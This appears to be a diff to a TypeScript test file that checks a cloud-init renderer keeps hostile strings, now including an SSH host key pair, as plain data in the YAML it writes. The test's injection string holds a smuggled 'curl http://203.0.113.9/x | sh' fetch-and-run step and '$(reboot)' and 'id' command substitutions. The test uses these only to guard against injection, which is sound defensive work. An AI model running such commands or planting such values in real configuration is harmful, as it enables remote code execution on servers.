@@ -531,13 +531,20 @@ test("the DigitalOcean stacks log in as the deploy user by default, with sudo, n
 
 test("cloud-init is data: hostile values in every string that reaches it parse back to the same structure", () => {
     const hostile = "x]\n  - [sh, -c, 'curl http://203.0.113.9/x | sh']\n# \"quoted\" $(reboot) `id`; ok: {a: b}";
-    for (const provider of ["digitalocean", "aws"] as const) {
-        const args = { devicePath: `/dev/disk/by-id/${hostile}`, dataRoot: `/mnt/${hostile}`, login: sshLoginFor(provider, hostile) };
+    // The host key pair too: a key is no config value, but nothing in it may change the structure either.
+    const hostKey = { privateKey: `-----BEGIN OPENSSH PRIVATE KEY-----\n${hostile}\n-----END OPENSSH PRIVATE KEY-----\n`, publicKey: `ssh-ed25519 ${hostile}` };
+    for (const [provider, withKey] of [["digitalocean", false], ["aws", false], ["digitalocean", true], ["aws", true]] as const) {
+        const args = { devicePath: `/dev/disk/by-id/${hostile}`, dataRoot: `/mnt/${hostile}`, login: sshLoginFor(provider, hostile), ...(withKey ? { hostKey } : {}) };
         const text = renderCloudInit(args);
         assert.match(text, /^#cloud-config\n/);
         const doc = YAML.parse(text);
+        const keyKeys = withKey ? ["ssh_deletekeys", "ssh_genkeytypes", "ssh_keys"] : [];
         assert.deepEqual(Object.keys(doc), provider === "digitalocean"
-            ? ["system_info", "users", "disable_root", "ssh_pwauth", "write_files", "runcmd"] : ["write_files", "runcmd"]);
+            ? ["system_info", "users", "disable_root", "ssh_pwauth", ...keyKeys, "write_files", "runcmd"] : [...keyKeys, "write_files", "runcmd"]);
+        if (withKey) {
+            assert.deepEqual([doc.ssh_deletekeys, doc.ssh_genkeytypes], [true, []]);
+            assert.deepEqual(doc.ssh_keys, { ed25519_private: hostKey.privateKey, ed25519_public: hostKey.publicKey }, "each half is one value, as given");
+        }
         if (provider === "digitalocean") assert.equal(doc.system_info.default_user.name, hostile, "the user is one value, as given");
         assert.deepEqual(doc.write_files.map((f: any) => f.path), [
             "/usr/local/sbin/housing-portal-mount-data-volume", "/etc/systemd/system/docker.service.d/housing-portal-data.conf",
